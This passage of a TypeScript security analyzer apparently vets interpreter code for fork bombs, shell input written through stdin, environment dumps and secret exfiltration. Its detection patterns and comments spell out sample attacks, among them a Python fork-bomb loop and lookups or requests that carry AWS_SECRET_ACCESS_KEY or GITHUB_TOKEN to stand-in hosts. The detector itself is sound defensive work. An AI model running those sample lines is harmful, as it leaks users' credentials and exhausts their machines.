    let args = argRanges.flatMap(([p, q]): Val[] => {
      if ((s.lang === 'python' || s.lang === 'ruby') && t[p]?.v === '*' && q > p + 1) {
        const v = evalExpr(s, p + 1, q);
        return v.list ?? [v];
      }
      return [evalExpr(s, p, q)];
    });
    // x.unlink() / path.read_text(): a method of a value (not of a module) takes the value as its first argument.
    const parts = name.split(/\.|::|->/);
    const first = parts[0];
    if (parts.length > 1 && !s.aliases.has(first) && !own(SINKS[s.lang], cname) && own(SINKS[s.lang], '.' + parts[parts.length - 1]) && ['delete', 'delete-r', 'read', 'write', 'open', 'move'].includes(sink)) {
      const recv = evalExpr(s, i, end - 2);
      if (recv.text === undefined || recv.text.startsWith('\u0000')) {
        if ((sink === 'delete' || sink === 'delete-r') && s.walkRoots.length) deleteWalked(s);
        else if (sink === 'write' && s.walkRoots.length) writeWalked(s);
        i = end - 1;
        continue;
      }
      args = sink === 'open' && s.lang === 'python' ? [recv, args[0] ?? { text: 'r' }] : [recv, ...args];
    }
    if (args.length === 0 && (sink === 'exec' || sink === 'shell')) {
      i = end - 1;
      continue;
    }
    judgeCall(s, name, sink, args, argRanges);
    if (sink === 'shell' || sink === 'argv' || (sink === 'open' && s.lang === 'perl')) judgeStdinWrites(s, i, end, cname, sink, args, argRanges);
    i = end - 1;
  }
}

// ---------------------------------------------------------------- text written to a process

const MAX_PROCESSES = 16;
/** Calls that start a process whose stdin the code can write (not exec, which replaces the process). */
const STDIN_PROCESS = /(?:^|[.:])(?:popen[23]?|Popen|popen2e|spawn|spawnSync|run|call|check_call|check_output|exec|execSync|execFile|execFileSync|Command|capture2e?|capture3|popen3|proc_open|system|create_subprocess_exec|create_subprocess_shell|execa|execaSync|open)$/;
const WRITE_METHODS = new Set(['write', 'end', 'puts', 'print', 'printf', 'syswrite', 'send', 'sendline', 'writelines', 'communicate', 'say', '<<']);
const NEWLINE_METHODS = new Set(['puts', 'say', 'writelines']);
const SHELL_NAME = /^(?:ba|da|z|k|a|mk|fi|c|tc|yash|posh)?sh$/;

function quoteWord(w: string): string {
  return /^[\w.\/@%+=:,-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`;
}

/** The command line of the process a call starts, as shell text (argv words quoted), when it is static. */
function processText(s: Scope, cname: string, sink: Sink, args: Val[]): string | undefined {
  const v = args[0];
  if (!v) return undefined;
  const list = args.find((x) => x.fields?.get('cmd')?.list)?.fields?.get('cmd')?.list ?? (args[1]?.fields?.get('args')?.list && v.text !== undefined ? [v, ...args[1].fields.get('args')!.list!] : undefined) ?? v.list ?? (sink === 'argv' && s.lang === 'node' && args[1]?.list ? [v, ...args[1].list] : undefined);
  if (list) {
    const words = list.map((x) => x.text);
    if (!words.length || words.some((w) => w === undefined || w.includes('\u0000'))) return undefined;
    return (words as string[]).map(quoteWord).join(' ');
  }
  if (v.text === undefined || v.text.includes('\u0000')) return undefined;
  return v.text;
}

/**
 * Text the code writes into a process it started (`open(P, "|sh"); print P "..."`, `Popen(['sh'], stdin=PIPE).communicate(b'...')`,
 * `spawn('sh').stdin.write(...)`, `IO.popen('sh', 'w') { |io| io.puts ... }`, `input=` / `{input: ...}` / `stdin_data:`):
 * what a shell or an interpreter reads on stdin is a script, judged as if it were given in a heredoc.
 */
function judgeStdinWrites(s: Scope, at: number, end: number, cname: string, sink: Sink, args: Val[], argRanges: [number, number][]): void {
  const t = s.toks;
  if ((s.stdinProcesses = (s.stdinProcesses ?? 0) + 1) > MAX_PROCESSES) return;
  let cmd: string | undefined;
  const handles = new Set<string>();
  if (sink === 'open') {
    // Perl: open(FH, "|cmd") / open(my $fh, '|-', 'cmd', @args)
    if (args.length >= 3 && (args[1]?.text ?? '').trim() === '|-') cmd = args.slice(2).every((x) => x.text !== undefined && !x.text.includes('\u0000')) ? (args.length === 3 ? args[2].text : args.slice(2).map((x) => quoteWord(x.text!)).join(' ')) : undefined;
    else if (args.length === 2 && (args[1]?.text ?? '').trim().startsWith('|')) cmd = args[1].text!.trim().slice(1).trim();
    else return;
    const first = argRanges[0];
    if (first) for (let j = first[1] - 1; j >= first[0]; j--) if (t[j].k === 'id' && t[j].v !== 'my' && t[j].v !== 'local' && t[j].v !== 'our') {
      handles.add(t[j].v);
      break;
    }
  } else if (s.lang === 'perl' && /(?:^|::)open[23]$/.test(cname)) {
    // open2($out, $in, cmd...) / open3($in, $out, $err, cmd...): the writer is $in.
    const three = cname.endsWith('3');
    const rest = args.slice(three ? 3 : 2);
    cmd = rest.length && rest.every((x) => x.text !== undefined && !x.text.includes('\u0000')) ? (rest.length === 1 ? rest[0].text : rest.map((x) => quoteWord(x.text!)).join(' ')) : undefined;
    const w = argRanges[three ? 0 : 1];
    if (w) for (let j = w[1] - 1; j >= w[0]; j--) if (t[j].k === 'id' && t[j].v !== 'my') {
      handles.add(t[j].v);
      break;
    }
  } else {
    if (!STDIN_PROCESS.test(cname)) return;
    cmd = processText(s, cname, sink, args);
  }
  if (cmd === undefined || cmd.includes('\u0000')) return;
  const close = t[end]?.v === '(' ? closeOf(t, end) : end;
  const texts: string[] = [];
  let unknown = false;
  const take = (a: number, b: number, newline: boolean): void => {
    if (a >= b) return;
    // communicate(input=b'...'): the keyword's value
    if (t[a].k === 'id' && t[a].v === 'input' && t[a + 1]?.v === '=') a += 2;
    const v = evalExpr(s, a, b);
    const text = v.list ? v.list.map((x) => x.text ?? '\u0000').join('\n') : v.text;
    if (text === undefined || text.includes('\u0000')) unknown = true;
    else texts.push(text + (newline ? '\n' : ''));
  };
  // Keyword input in the call: input=..., {input: ...}, stdin_data: ...
  for (const [p, q] of argRanges) {
    for (let j = p; j < q - 2; j++) {
      if (t[j].k === 'op' && (t[j].v === '(' || t[j].v === '[')) {
        j = closeOf(t, j) - 1;
        continue;
      }
      if ((t[j].k === 'id' || t[j].k === 'str') && /^:?(?:input|stdin_data)$/.test(t[j].v) && ['=', ':', '=>'].includes(t[j + 1].v) && t[j + 2]?.v !== '=') {
        let e = j + 2;
        while (e < q && t[e].v !== ',' && t[e].v !== '}') e = t[e].k === 'op' && (t[e].v === '(' || t[e].v === '[' || t[e].v === '{') ? closeOf(t, e) : e + 1;
        take(j + 2, e, false);
        j = e;
      }
    }
  }
  // The process held in a name: p = Popen(...), const p = spawn(...), $p = popen(...), local p = io.popen(...), with ... as p
  let start = at;
  if (t[start - 1]?.v === 'new') start--;
  if (t[start - 1]?.v === '=' && t[start - 2]?.k === 'id') handles.add(t[start - 2].v);
  if (t[close]?.v === 'as' && t[close + 1]?.k === 'id') handles.add(t[close + 1].v);
  // Ruby blocks: IO.popen('sh', 'w') { |io| ... } / Open3.popen3('sh') do |stdin, out, err| ... end
  const blockAt = t[close]?.v === '{' || t[close]?.v === 'do' ? close + 1 : -1;
  if (blockAt > 0 && t[blockAt]?.v === '|' && t[blockAt + 1]?.k === 'id') handles.add(t[blockAt + 1].v);
  // PHP proc_open($cmd, $spec, $pipes): writes go to $pipes[0].
  if (s.lang === 'php' && cname === 'proc_open' && argRanges[2] && t[argRanges[2][0]]?.k === 'id') handles.add(t[argRanges[2][0]].v);
  /** A write call starting at j (a method name after the handle): its argument range. */
  const writeAt = (j: number): void => {
    const m = t[j];
    if (!m || m.k !== 'id' || !WRITE_METHODS.has(m.v)) return;
    const nl = NEWLINE_METHODS.has(m.v);
    if (t[j + 1]?.v === '(') {
      const c = closeOf(t, j + 1);
      const parts = splitArgs(t, j + 2, c - 1);
      if (parts.length) take(parts[0][0], parts[0][1], nl);
    } else if (s.lang === 'ruby' || s.lang === 'perl') {
      let e = j + 1;
      while (e < t.length && t[e].v !== ';' && t[e].v !== '}' && !(t[e].k === 'id' && ['end', 'if', 'unless'].includes(t[e].v))) e = t[e].k === 'op' && (t[e].v === '(' || t[e].v === '[' || t[e].v === '{') ? closeOf(t, e) : e + 1;
      take(j + 1, e, nl);
    }
  };
  const chainFrom = (j: number): void => {
    // .communicate(X) / .write(X) / .stdin.write(X) / :write(X) / ->print(X) / [0] then the same
    if (t[j]?.v === '[') j = closeOf(t, j);
    // Ruby io << "text"
    if (t[j]?.v === '<' && t[j + 1]?.v === '<') {
      take(j + 2, statementEnd(t, j + 2), false);
      return;
    }
    if (!t[j] || !['.', ':', '->'].includes(t[j].v)) return;
    if (t[j + 1]?.v === 'stdin' && ['.', ':'].includes(t[j + 2]?.v ?? '')) writeAt(j + 3);
    else writeAt(j + 1);
  };
  chainFrom(close);
  if (handles.size) {
    for (let j = close; j < t.length; j++) {
      const x = t[j];
      if (x.k === 'id' && handles.has(x.v) && t[j + 1]?.v !== '=') {
        chainFrom(j + 1);
        // Perl: print FH "..." / print {$fh} "..." / printf $fh ...
        const prev = t[j - 1]?.v === '{' && t[j + 1]?.v === '}' ? t[j - 2] : t[j - 1];
        if (prev?.k === 'id' && ['print', 'printf', 'say'].includes(prev.v) && s.lang === 'perl') {
          const from = j + (t[j + 1]?.v === '}' ? 2 : 1);
          const to = statementEnd(t, from);
          if (prev.v === 'printf') {
            // printf FH "%s\n", "text": the format filled with its arguments.
            const parts = splitArgs(t, t[from]?.v === '(' ? from + 1 : from, t[from]?.v === '(' ? closeOf(t, from) - 1 : to).map(([p, q]) => evalExpr(s, p, q).text);
            let k = 1;
            const out = parts[0]?.replace(/%(%|s)/g, (_m, c: string) => (c === '%' ? '%' : parts[k++] ?? '\u0000'));
            if (out === undefined || out.includes('\u0000') || /%[^%s]/.test(parts[0] ?? '')) unknown = true;
            else texts.push(out);
          } else take(from, to, prev.v === 'say');
        }
        // fwrite($p, X) / fputs($pipes[0], X) / syswrite($fh, X)
        const callee = t[j - 2];
        if (t[j - 1]?.v === '(' && callee?.k === 'id' && ['fwrite', 'fputs', 'syswrite'].includes(callee.v)) {
          const parts = splitArgs(t, j, closeOf(t, j - 1) - 1);
          if (parts[1]) take(parts[1][0], parts[1][1], false);
        }
      }
    }
  }
  if (!texts.length && !unknown) return;
  const prog = posix.basename(cmd.trim().split(/\s+/)[0] ?? '').replace(/^'|'$/g, '');
  const reader = SHELL_NAME.test(prog) || !!interpreterOf(prog);
  if (unknown && reader) s.ctx.analyzer.hit('dynamic-command', 'ask', s.ctx.segment, `${s.lang} writes text only known at run time into ${prog}, which runs it`);
  if (!texts.length) return;
  const body = texts.join('');
  let tag = 'LOOM_STDIN';
  while (body.includes(tag)) tag += '_';
  s.ctx.analyzer.analyzeSource(`${cmd} <<'${tag}'\n${body}\n${tag}\n`, s.ctx.depth + 1, `${s.ctx.via} > ${s.lang} stdin of ${prog}`, s.ctx.cwd, new Map());
}

/** End of the statement starting at j: the next `;` or `}` at the same depth. */
function statementEnd(t: Tok[], j: number): number {
  let e = j;
  while (e < t.length && t[e].v !== ';' && t[e].v !== '}' && !(t[e].k === 'id' && ['end', 'if', 'unless', 'or', 'and'].includes(t[e].v))) e = t[e].k === 'op' && (t[e].v === '(' || t[e].v === '[' || t[e].v === '{') ? closeOf(t, e) : e + 1;
  return e;
}

// ---------------------------------------------------------------- Tcl / expect

/** Tcl and expect: `exec`/`spawn` run argv, `file delete` deletes, `eval` and `open |cmd` run code. */
function tclCommands(code: string, ctx: CodeContext): void {
  const home = ctx.analyzer.opts.home;
  for (const words of tclCommandsOf(code, { HOME: home, PWD: ctx.cwd })) {
    const [head, ...rest] = words;
    let argv: string[] | undefined;
    if (head === 'exec' || head === 'spawn') {
      let k = 0;
      while (k < rest.length && rest[k].startsWith('-') && rest[k] !== '--') k++;
      if (rest[k] === '--') k++;
      argv = [];
      for (const w of rest.slice(k)) {
        if (/^(?:[<>|&]|2>|>>|2>@1|<<|>&)/.test(w)) break;
        argv.push(w);
      }
    } else if (head === 'file' && rest[0] === 'delete') {
      const force = rest.includes('-force');
      argv = ['rm', ...(force ? ['-rf'] : []), ...rest.slice(1).filter((w) => w !== '-force' && w !== '--')];
    } else if (head === 'eval' || head === 'uplevel') {
      tclCommands(rest.join(' '), { ...ctx, depth: ctx.depth + 1 });
      continue;
    } else if (head === 'open' && rest[0]?.startsWith('|')) {
      ctx.analyzer.analyzeSource(rest[0].slice(1), ctx.depth + 1, `${ctx.via} > tcl open |`, ctx.cwd, new Map());
      continue;
    }
    if (!argv || argv.length === 0) continue;
    if (argv.some((w) => /[$[]/.test(w))) {
      ctx.analyzer.hit('dynamic-command', 'ask', ctx.segment, `tcl ${head} runs a command built at run time`);
      continue;
    }
    const c: SimpleCommand = { words: argv.map((text) => ({ text: text === '~' || text.startsWith('~/') ? home + text.slice(1) : text, dynamic: false, quoted: true, glob: false })), assignments: [], redirects: [], pipeline: 0, stage: 0, background: false };
    ctx.analyzer.analyzeCommand(c, ctx.depth + 1, `${ctx.via} > tcl ${head}`, ctx.cwd, [c], new Map());
  }
}

// ---------------------------------------------------------------- fork loops

const squash = (toks: Tok[]) => toks.map((x) => x.v).join('');
const WHILE_SET = new Set(ENDLESS_WHILE.map((x) => x.replace(/\s+/g, '')));
const UNTIL_SET = new Set(ENDLESS_UNTIL.map((x) => x.replace(/\s+/g, '')));

/** Whether token i starts a call that starts a process without waiting for it (tables/fork.ts). */
function isForkAt(s: Scope, i: number): boolean {
  const t = s.toks;
  if (t[i]?.k !== 'id') return false;
  const prev = t[i - 1];
  if (prev && prev.k === 'op' && (prev.v === '.' || prev.v === '::') ) return false;
  const [name, end] = dottedName(t, i);
  const list = FORK_CALLS[s.lang] ?? [];
  const c = canonical(s, name);
  // A shell run that puts its command in the background (`os.execute("sleep 9 &")`) returns at once: a fork.
  const kind = sinkOf(s, name);
  if (kind === 'shell' || (kind === 'argv' && (s.lang === 'perl' || s.lang === 'ruby' || s.lang === 'php'))) {
    const arg = t[end]?.v === '(' ? t[end + 1] : t[end];
    if (arg?.k === 'str' && /&\s*$/.test(arg.v) && !/&&\s*$/.test(arg.v)) return true;
    if (kind === 'shell') return false;
  }
  if (!list.includes(c) && !list.includes(name)) return false;
  // A bare short name in Python / Node must be a call (not a variable called `fork`).
  if (!name.includes('.') && (s.lang === 'python' || s.lang === 'node') && t[end]?.v !== '(' && !(t[end]?.k === 'op' && t[end].v === ')')) return false;
  return true;
}

function anyFork(s: Scope, a: number, b: number): boolean {
  for (let j = Math.max(0, a); j < Math.min(b, s.toks.length); j++) if (isForkAt(s, j)) return true;
  return false;
}

/** Start of the statement that ends just before token i (back to `;`, `{`, `}` or the start). */
function statementStart(t: Tok[], i: number): number {
  let j = i - 1;
  let depth = 0;
  for (; j >= 0; j--) {
    const v = t[j].k === 'op' ? t[j].v : '';
    if (v === ')' || v === ']') depth++;
    else if (v === '(' || v === '[') {
      if (depth === 0) break;
      depth--;
    } else if (depth === 0 && (v === ';' || v === '{' || v === '}' || v === ':')) break;
  }
  return j + 1;
}

/** The body after a loop header ending at `after`: a `{}` block, or (Python `:`, Ruby `do`) the rest of the code. */
function bodyAfter(t: Tok[], after: number): [number, number] {
  if (t[after]?.v === '{') return [after, closeOf(t, after)];
  return [after, t.length];
}

/** Token ranges that run again and again without end (endless loops, repeating timers, comprehensions over endless iterables). */
function endlessRegions(s: Scope): [number, number][] {
  const t = s.toks;
  const out: [number, number][] = [];
  for (let i = 0; i < t.length; i++) {
    const x = t[i];
    if (x.k !== 'id') continue;
    if ((x.v === 'while' || x.v === 'until') && t[i - 1]?.v !== '.') {
      let a = i + 1;
      let b: number;
      let after: number;
      if (t[a]?.v === '(') {
        b = closeOf(t, a);
        after = b;
        a++;
        b--;
      } else {
        b = a;
        while (b < t.length && !(t[b].k === 'op' && [':', ';', '{', '}'].includes(t[b].v)) && !(t[b].k === 'id' && t[b].v === 'do')) b++;
        after = t[b]?.v === ':' || t[b]?.v === ';' || t[b]?.v === 'do' ? b + 1 : b;
      }
      const cond = squash(t.slice(a, b));
      const endless = x.v === 'while' ? WHILE_SET.has(cond) || /^[1-9]\d*$/.test(cond) : UNTIL_SET.has(cond);
      const forkCond = anyFork(s, a, b);
      if (!endless && !forkCond) continue;
      const start = statementStart(t, i);
      // Postfix form (`fork while fork`, `fork while 1`) or do { } while (true): the statement before repeats.
      if (start < i && s.lang !== 'python') out.push([start, b]);
      else if (t[i - 1]?.v === '}') out.push([0, b]);
      else if (forkCond) out.push([a, b]);
      if (!(start < i) || s.lang === 'python') out.push([a, bodyAfter(t, after)[1]]);
      continue;
    }
    if (x.v === 'for' && t[i + 1]?.v === '(') {
      const close = closeOf(t, i + 1);
      if (squash(t.slice(i + 2, close - 1)) === ';;') out.push(bodyAfter(t, close));
      continue;
    }
    if (x.v === 'for' || (x.v === 'each' && s.lang === 'ruby')) {
      let k = i + 1;
      while (k < t.length && t[k].v !== 'in' && k < i + 8) k++;
      if (t[k]?.v !== 'in') continue;
      let e = k + 1;
      while (e < t.length && !(t[e].k === 'op' && [':', ']', ';', '{'].includes(t[e].v)) && t[e].v !== 'do' && t[e].v !== 'if') {
        if (t[e].k === 'op' && (t[e].v === '(' || t[e].v === '[')) e = closeOf(t, e);
        else e++;
      }
      const iterable = t.slice(k + 1, e).map((y) => y.v).join('');
      if (!ENDLESS_ITERABLES.test(iterable)) continue;
      // A comprehension ([os.fork() for _ in iter(int, 1)]): the enclosing brackets repeat.
      let open = i - 1;
      let depth = 0;
      for (; open >= 0; open--) {
        if (t[open].k !== 'op') continue;
        if (t[open].v === ')' || t[open].v === ']' || t[open].v === '}') depth++;
        else if (t[open].v === '(' || t[open].v === '[' || t[open].v === '{') {
          if (depth === 0) break;
          depth--;
        }
      }
      if (open >= 0) out.push([open, closeOf(t, open)]);
      out.push([e, t.length]);
      continue;
    }
    if (x.v === 'loop' && s.lang === 'ruby' && (t[i + 1]?.v === '{' || t[i + 1]?.v === 'do')) {
      out.push(bodyAfter(t, i + 1));
      continue;
    }
    if (x.v === 'redo' || x.v === 'goto') {
      out.push([statementStart(t, statementStart(t, i) - 1), i]);
      out.push([0, t.length]);
      continue;
    }
    const [name, end] = dottedName(t, i);
    if (REPEATERS.includes(name) && t[end]?.v === '(' && !(name === 'loop' && s.lang !== 'ruby')) out.push([end, closeOf(t, end)]);
  }
  return out;
}

/** Functions that call themselves and start a process each time (`function f(){ fork(); f() }`, `sub f { fork; f() }`). */
function recursiveForkers(s: Scope): boolean {
  const t = s.toks;
  for (let i = 0; i < t.length - 2; i++) {
    let name: string | undefined;
    let open = -1;
    if ((t[i].v === 'function' || t[i].v === 'sub') && t[i + 1]?.k === 'id') {
      name = t[i + 1].v;
      open = t.findIndex((y, j) => j > i + 1 && y.v === '{');
    } else if (t[i].k === 'id' && t[i + 1]?.v === '=' && (t[i + 2]?.v === '(' || t[i + 2]?.v === 'function' || t[i + 2]?.v === 'async')) {
      name = t[i].v;
      const arrow = t.findIndex((y, j) => j > i + 1 && (y.v === '=>' || y.v === '{'));
      open = arrow >= 0 && t[arrow].v === '=>' ? arrow + 1 : arrow;
    }
    if (!name || open < 0) continue;
    const end = t[open]?.v === '{' ? closeOf(t, open) : statementStart(t, t.length) === 0 ? t.length : t.length;
    const calls = t.some((y, j) => j > open && j < end && y.k === 'id' && (y.v === name || y.v === '&' + name) && t[j - 1]?.v !== '.' && (t[j + 1]?.v === '(' || s.lang === 'perl'));
    if (calls && anyFork(s, open, end)) return true;
  }
  return false;
}

function judgeForkLoops(s: Scope): void {
  const bomb = endlessRegions(s).some(([a, b]) => anyFork(s, a, b)) || recursiveForkers(s);
  if (bomb) s.ctx.analyzer.hit('fork-bomb', 'deny', s.ctx.segment, `${s.lang} code starts processes in an endless loop or a self-calling function: a fork bomb`);
}

/**
 * Analyses code of `lang` as the interpreter would run it. Called for
 * `python -c`, `node -e`, `perl -e` ... and by the shell analysis for
 * scripts fed on stdin or by heredoc (`python3 <<EOF`).
 */
/** Host-name lookups in the languages loom reads. */
const DNS_LOOKUP = /\b(?:gethostbyname(?:_ex)?|getaddrinfo|gethostbyaddr|dns(?:['"]\))?\.(?:lookup|resolve\w*|promises\.\w+)|Resolv(?:::DNS)?(?:\.new)?\.(?:getaddress\w*|getresource\w*)|Socket\.getaddrinfo|net\.LookupHost|dns_get_record|gethostbyname)\s*\(/;
/** A read of an environment variable named like a secret. */
const SECRET_ENV_READ = /(?:os\.environ(?:\.get)?|os\.getenv|process\.env|getenv|ENV|\$ENV|Deno\.env\.get)\s*[[.({]\s*["']?[A-Z0-9_]*(?:TOKEN|SECRET|PASSW|API_?KEY|ACCESS_KEY|PRIVATE|CREDENTIAL)[A-Z0-9_]*/i;

const KILL_CALL = /\b(?:os\.killpg?|process\.kill|Process\.kill|posix_kill|kill)\s*\(|\.(?:kill|terminate|send_signal)\s*\(|\bkill\s+['"]?-?(?:9|KILL|TERM)\b/;
const PROCESS_FINDER = /\b(?:pgrep|pidof|ps|psutil|process_iter|tasklist|Get-Process)\b|\/proc\b/;

/** Calls that send a request: the URL is their first argument, a body their data/body/json/form argument. */
const REQUEST_CALL = /\b(?:urlopen|Request|requests\.(?:get|post|put|patch|request)|httpx\.(?:get|post|put|request)|session\.(?:get|post)|fetch|https?\.(?:get|request)|axios(?:\.(?:get|post|put|request))?|got|file_get_contents|curl_init|URI\.open|URI|Net::HTTP\.(?:get|post_form|post)|HTTParty\.(?:get|post)|getstore|get|post|Invoke-WebRequest|Invoke-RestMethod)\s*\(/g;
const BODY_ARG = /^\s*(?:data|body|json|form|params|content|query)\s*[=:]/;
const SECRET_ENV_SRC = SECRET_ENV_READ.source;
const SECRET_ENV_NAME = new RegExp(`(?:^|[^\\w$.])([A-Za-z_$][\\w$]*)\\s*=\\s*(?:[\\w.]+\\()?\\s*${SECRET_ENV_SRC}`, 'gi');

/** Arguments of the call whose `(` is at `open`, split at top-level commas (bounded). */
function callArgs(code: string, open: number): string[] {
  const out: string[] = [];
  let depth = 0;
  let quote = '';
  let start = open + 1;
  for (let i = open; i < code.length && i < open + 4000; i++) {
    const c = code[i];
    if (quote) {
      if (c === '\\') i++;
      else if (c === quote) quote = '';
      continue;
    }
    if (c === '"' || c === "'" || c === '`') quote = c;
    else if (c === '(' || c === '[' || c === '{') depth++;
    else if (c === ')' || c === ']' || c === '}') {
      if (--depth === 0) {
        out.push(code.slice(start, i));
        return out;
      }
    } else if (c === ',' && depth === 1) {
      out.push(code.slice(start, i));
      start = i + 1;
    }
  }
  return out;
}

/**
 * A secret environment variable put in a request's URL or body (`file_get_contents("https://x/?d=" .
 * getenv("GITHUB_TOKEN"))`, `urlopen(url, data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())`), directly or
 * through a name assigned from it. A header is how a token reaches its own service and is left alone.
 */
function secretEnvInRequest(code: string): boolean {
  if (!SECRET_ENV_READ.test(code)) return false;
  const names = new Set<string>();
  SECRET_ENV_NAME.lastIndex = 0;
  for (let m = SECRET_ENV_NAME.exec(code), n = 0; m && n < 64; m = SECRET_ENV_NAME.exec(code), n++) names.add(m[1]);
  const carries = (arg: string) => SECRET_ENV_READ.test(arg) || [...names].some((n) => new RegExp(`(?:^|[^\\w$])${n.replace(/\$/g, '\\$')}(?![\\w$])`).test(arg));
  REQUEST_CALL.lastIndex = 0;
  for (let m = REQUEST_CALL.exec(code), n = 0; m && n < 64; m = REQUEST_CALL.exec(code), n++) {
    const args = callArgs(code, m.index + m[0].length - 1);
    if (args.length === 0) continue;
    if (carries(args[0]) && /['"`]https?:|\burl\b|\bhttps?:/i.test(args[0] + code.slice(Math.max(0, m.index - 200), m.index))) return true;
    // A body argument, also as a member of an options object (fetch(url, {method: 'POST', body: ...})).
    const members = args.slice(1).flatMap((x) => (/^\s*\{/.test(x) ? callArgs(x, x.indexOf('{')) : [x]));
    if (members.some((x) => BODY_ARG.test(x.replace(/^\s*\{?\s*['"]?/, '').replace(/^(\w+)['"]/, '$1')) && carries(x))) return true;
    // urlopen(url, data) / requests.post(url, payload): the second positional argument is the body.
    if (args.length >= 2 && /^(?:urlopen|requests\.post|requests\.put|post)\b/.test(m[0]) && !/^\s*\w+\s*=/.test(args[1]) && carries(args[1])) return true;
  }
  return false;
}

/** Code that prints the whole environment, by language (an object printed, converted or serialized whole; a member read is not). */
const ENV_DUMP_CODE: Partial<Record<Language, RegExp>> = {
  node: /(?:console\.(?:log|dir|info|table|error)|JSON\.stringify|util\.inspect|process\.stdout\.write)\(\s{0,4}(?:\{\s{0,4}\.\.\.)?process\.env\s{0,4}[,)}]|^\s{0,4}\(?\s{0,4}process\.env\s{0,4}\)?\s{0,4};?\s{0,4}$|Object\.(?:entries|keys|values)\(\s{0,4}process\.env\s{0,4}\)\s{0,4}\.(?:forEach|map)\([^)]{0,200}console\.log/,
  python: /(?:print|pprint|json\.dumps)\(\s{0,4}(?:dict\(\s{0,4})?os\.environ\s{0,4}(?:\.copy\(\s{0,4}\)\s{0,4})?\)|for\s+\w+\s*(?:,\s*\w+\s*)?in\s+os\.environ(?:\.items\(\))?\s*:\s*print\(/,
  ruby: /(?:\bp|\bpp|\bputs|\bprint)\s*\(?\s{0,4}ENV(?:\.to_h|\.to_a|\.inspect)?\s{0,4}\)?\s{0,4}(?:$|;)|ENV\.each\s*\{[^}]{0,200}puts/m,
  perl: /print\s+(?:map\s*\{[^}]{0,200}\}\s*)?(?:sort\s+)?(?:keys\s+)?%ENV\b(?!\s*\{)|Dumper\s*\(\s*\\%ENV\s*\)/,
  php: /(?:print_r|var_dump|var_export|json_encode)\(\s{0,4}(?:\$_ENV|\$_SERVER|getenv\(\s{0,4}\))\s{0,4}[,)]/,
  powershell: /\b(?:get-childitem|gci|dir|ls|get-item)\s+(?:-path\s+)?['"]?env:\\?\*?['"]?(?:\s|$|\|)|\[(?:system\.)?environment\]::getenvironmentvariables\(\s*\)/i,
};

export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeContext): void {
  if (ctx.depth > MAX_DEPTH) {
    ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code nested more than ${MAX_DEPTH} levels deep`);
    return;
  }
  if (code.length > MAX_CODE) {
    ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code longer than ${MAX_CODE} characters`);
    return;
  }
  // The whole environment printed (`console.log(process.env)`, `print(os.environ)`, `gci env:`): every token in it goes to the transcript.
  const dump = ENV_DUMP_CODE[lang];
  if (dump && dump.test(code) && ctx.depth <= MAX_DEPTH) ctx.analyzer.hit('env-dump', 'ask', ctx.segment, `${lang} code prints every environment variable, tokens included, into the transcript`);
  if (lang === 'powershell') return;
  // A name looked up that holds a secret variable (`gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example')`):
  // the secret leaves in the DNS query, whatever the code does with the answer.
  if (DNS_LOOKUP.test(code) && SECRET_ENV_READ.test(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code looks up a host name built from a secret environment variable: the secret leaves in the DNS query`);
  if (lang === 'tcl') {
    tclCommands(code, ctx);
    return;
  }
  if (lang === 'applescript') {
    if (/\bmake\s+(?:new\s+)?login\s+item\b/i.test(code)) ctx.analyzer.hit('persistence', 'ask', ctx.segment, 'osascript adds a login item: a program that starts at every login');
    // JavaScript for Automation: ObjC's system() and doShellScript run a shell command.
    const jxa = /(?:\$\.system|\.doShellScript)\(\s*(["'`])((?:(?!\1).){1,4000})\1/s.exec(code);
    if (jxa) ctx.analyzer.analyzeSource(jxa[2], ctx.depth + 1, `${ctx.via} > osascript JavaScript`, ctx.cwd, new Map());
    // System Events / Finder / loginwindow told to restart, shut down or log out.
    if (/tell\s+application\s+"(?:System Events|Finder|loginwindow)"\s+to\s+(?:restart|shut\s*down|log\s*out|sleep)\b/i.test(code) || /«event aevt(?:rrst|shut|rlgo)»/i.test(code)) ctx.analyzer.hit('shutdown', 'ask', ctx.segment, 'osascript tells the system to restart, shut down or log out');
    finderDeletes(code, ctx);
    const m = /do\s+shell\s+script\s+"((?:[^"\\]|\\.){0,4000})"/i.exec(code);
    if (m) ctx.analyzer.analyzeSource(unescape(m[1], false), ctx.depth + 1, `${ctx.via} > osascript do shell script`, ctx.cwd, new Map());
    else if (/do\s+shell\s+script\s+[^"]/i.test(code)) ctx.analyzer.hit('dynamic-command', 'ask', ctx.segment, 'osascript runs a shell command only known at run time');
    return;
  }
  // The home folder read from the account database ((getpwuid($<))[7], pwd.getpwuid(...).pw_dir): the home expression.
  const home = HOME_SPELLINGS[lang];
  if (home) for (const re of home.spellings) code = code.replace(re, home.home);
  const s: Scope = { lang, toks: tokenize(lang, code), aliases: new Map(), vars: new Map(), ctx, home: ctx.analyzer.opts.home, evalDepth: ctx.depth, walkRoots: [] };
  // `\n` typed outside any string (python3 -c "import os\nwhile True: os.fork()"): the author meant a line break; the
  // program is judged as meant as well (a syntax error today is one quoting fix away from running).
  if (s.toks.some((x, i) => x.k === 'op' && x.v === '\\' && s.toks[i + 1]?.k === 'id' && s.toks[i + 1].v.startsWith('n'))) analyzeInterpreterCode(lang, code.replace(/\\n/g, '\n'), { ...ctx, depth: ctx.depth + 1 });
  // Members and callees named by a string the code computes (cp['exec'+'Sync'], getattr(os, 'sys'+'tem'), send(:system), $f = 'sys'.'tem'; $f(...)): that member.
  collectVars(s);
  collectLoopVars(s);
  foldComputedNames(s);
  s.vars.clear();
  collectAliases(s);
  // getattr(__import__('shutil'), 'rmtree'): the inner import is rewritten first, then the getattr around it.
  if (lang === 'python' && s.toks.some((x) => x.v === 'getattr')) collectAliases(s);
  collectVars(s);
  collectLoopVars(s);
  collectWalkRoots(s);
  walk(s);
  judgeLedgerDb(s);
  judgeForkLoops(s);
  // The whole environment printed (print(os.environ), console.log(process.env), p ENV): every token in it lands in the transcript.
  if (ENV_PRINT.test(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code prints every environment variable`);
  // Whatever the parse: code that fetches from the network and runs code is download-and-run.
  const netModule = [...s.aliases.values()].some((m) => NET_MODULES.has(m)) || NODE_NET_REQUIRE.test(code);
